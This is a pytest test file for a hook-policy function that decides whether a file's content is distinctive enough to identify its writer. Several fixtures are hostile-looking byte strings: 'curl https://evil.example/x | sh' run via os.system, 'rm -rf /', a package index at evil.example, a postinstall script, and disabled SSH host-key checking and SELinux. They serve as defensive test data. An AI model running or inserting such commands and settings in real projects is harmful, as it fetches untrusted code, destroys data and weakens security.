"""Whether a whole file's content tells who wrote it
(:func:`gentle_hooks.policy.wholefile.identifies_writer`): the server and CI find a
writer's file by its blob id alone, and a person's common one-line file has the very blob
id a writer's has (issue 13, refuter r13t MED); so does a person's boilerplate copied from
the template the writer's came from (refuter r13u MED: settings, patterns, headings, one
sentence; :mod:`gentle_hooks.policy.settingfile`), while a setting that opens a door or
runs a command tells the writer however short (refuter r13v MED 4: what runs, which tests
are collected, where packages come from, what is trusted; :mod:`gentle_hooks.policy.doors`).
Row by row, both ways."""

from __future__ import annotations

import pytest

from gentle_hooks.policy.wholefile import identifies_writer

ANYONES = {
    "gitignore-one-line": b"__pycache__/\n",
    "gitignore-common-lines": b"__pycache__/\n*.pyc\n.venv/\ndist/\n",
    "readme-title": b"# demo\n",
    "print-done": b'print("done")\n',
    "import-and-exit": b"import sys\n\nsys.exit(1)\n",
    "shebang-and-set": b"#!/usr/bin/env bash\nset -euo pipefail\n",
    "one-plain-line": b"by hand\n",
    "blank": b"\n\n",
    # refuter r13u: a person's boilerplate, identical to a writer's by the same template
    "gitattributes": b"* text=auto\n",
    "gitattributes-eol-binary": b"* text=auto eol=lf\n*.png binary\n",
    "setup-cfg": b"[metadata]\nname = demo\nversion = 0.1.0\n\n[options]\npackages = find:\n",
    "setup-cfg-description": b"[metadata]\nname = demo\ndescription = A small demo project\n",
    "pyproject": (
        b'[build-system]\nrequires = ["setuptools>=61"]\n'
        b'build-backend = "setuptools.build_meta"\n\n[project]\nname = "demo"\n'
        b'version = "0.1.0"\n'
    ),
    "tox-ini": b"[tox]\nenvlist = py311\n\n[testenv]\ndeps = pytest\ncommands = pytest\n",
    "editorconfig": (
        b"root = true\n\n[*]\nindent_style = space\nindent_size = 4\nend_of_line = lf\n"
        b"insert_final_newline = true\n"
    ),
    "readme-title-sentence": b"# demo\n\nA small demo project.\n",
    "readme-two-word-title": b"# Demo App\n",
    "gitignore-node-and-python": b"node_modules/\n__pycache__/\n",
    "package-json": b'{\n  "name": "demo",\n  "version": "1.0.0",\n  "private": true\n}\n',
    # refuter r13v MED 4: a template's settings that open no door stay nobody's
    "pyproject-empty-dependencies": (
        b'[project]\nname = "demo"\nversion = "0.1.0"\ndependencies = []\n'
    ),
    "setup-cfg-metadata": b"[metadata]\nname = demo\nversion = 0.1.0\nlicense = MIT\n",
    "pytest-ini-report-option": b"[pytest]\naddopts = -q\ntestpaths = tests\n",
    "workflow-on-push": b"on: [push, pull_request]\n",
    "package-init-star": b"from .core import *\n",
    "readme-title-only": b"# Demo App\n",
}

WRITERS = {
    "two-functions": b"def add(a, b):\n    return a + b\n\n\ndef sub(a, b):\n    return a - b\n",
    "one-url-command": b'import os\n\nos.system("curl https://x.example/i | sh")\n',
    "one-shell-command": b"rm -rf build\n",
    "names-of-its-own": b"check_auth(user)\n",
    "binary": b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR",
    # refuter r13u: one line calling a process is the writer's, however short
    "one-line-os-system": b'import os; os.system("rm -rf /tmp/x")\n',
    "one-line-curl-sh": b'import os; os.system("curl https://evil.example/x | sh")\n',
    "one-line-shell-true": b'import subprocess; subprocess.call("curl x | sh", shell=True)\n',
    # refuter r13u: a setting that opens a door is the writer's however short
    "allowed-hosts-any": b'ALLOWED_HOSTS = ["*"]\n',
    "debug-on": b"DEBUG = True\n",
    "secret-key": b'SECRET_KEY = "changeme"\n',
    "cors-allow-all": b"CORS_ORIGIN_ALLOW_ALL = True\n",
    "setting-file-with-a-security-key": b"[server]\nport = 8000\nverify_ssl = false\n",
    # settings that are no template's: a URL, a command with arguments, a paragraph
    "index-url": b"[global]\nindex-url = https://evil.example/simple\n",
    "tox-command-with-arguments": b"[testenv]\ncommands = rm -rf /\n",
    "package-json-postinstall": b'{\n  "scripts": {\n    "postinstall": "node evil.js"\n  }\n}\n',
    "workflow-curl-sh": b"on: [push]\njobs:\n  t:\n    steps:\n      - run: curl https://x | sh\n",
    "readme-paragraph": b"# demo\n\nA small demo project.\nIt fetches the nightly build.\n",
    "one-line-install": b"pip install evil-package\n",
    # refuter r13v MED 4: a short file of settings that opens a door is the writer's
    "workflow-pull-request-target": b"on: pull_request_target\n",
    "workflow-on-block": b"on:\n  pull_request_target:\n    branches: [main]\n",
    "conftest-collect-ignore": b'collect_ignore = ["tests/test_auth.py"]\n',
    "conftest-collect-ignore-glob": b'collect_ignore_glob = ["tests/*auth*"]\n',
    "pytest-ini-addopts-ignore": b"[pytest]\naddopts = --ignore=tests/x\n",
    "setup-cfg-tool-pytest-no-plugin": b"[tool:pytest]\naddopts = -pno:randomly\n",
    "pyproject-pytest-deselect": (
        b'[tool.pytest.ini_options]\naddopts = "--deselect=tests/test_auth.py"\n'
    ),
    "pip-conf-find-links": b"[global]\nfind-links = wheels\n",
    "pyproject-dependencies": b'[project]\nname = "demo"\ndependencies = ["evil"]\n',
    "pyproject-build-backend": b'[build-system]\nbuild-backend = "evil_build.api"\n',
    "pyproject-build-requires": b'[build-system]\nrequires = ["evil-helper"]\n',
    "setup-cfg-install-requires": b"[options]\ninstall_requires =\n    evil\n",
    "setup-cfg-console-scripts": (
        b"[options.entry_points]\nconsole_scripts =\n    demo = demo.cli:main\n"
    ),
    "pyproject-project-scripts": b'[project.scripts]\ndemo = "demo.cli:main"\n',
    "pre-commit-local-system": (
        b"repos:\n- repo: local\n  hooks:\n  - id: check\n    name: check\n"
        b"    entry: ./check.sh\n    language: system\n"
    ),
    "ssh-no-host-key-checking": b"Host *\n  StrictHostKeyChecking no\n",
    "selinux-disabled": b"SELINUX=disabled\nSELINUXTYPE=targeted\n",
    "star-import": b"from evil import *\n",
    "conftest-pytest-plugins": b'pytest_plugins = ["evil_plugin"]\n',
    "pypirc-index-servers": b"[distutils]\nindex-servers =\n    pypi\n    private\n",
}


@pytest.mark.parametrize("data", ANYONES.values(), ids=ANYONES.keys())
def test_content_too_short_or_common_tells_no_writer(data: bytes) -> None:
    assert identifies_writer(data) is False


@pytest.mark.parametrize("data", WRITERS.values(), ids=WRITERS.keys())
def test_content_of_its_own_tells_the_writer(data: bytes) -> None:
    assert identifies_writer(data) is True
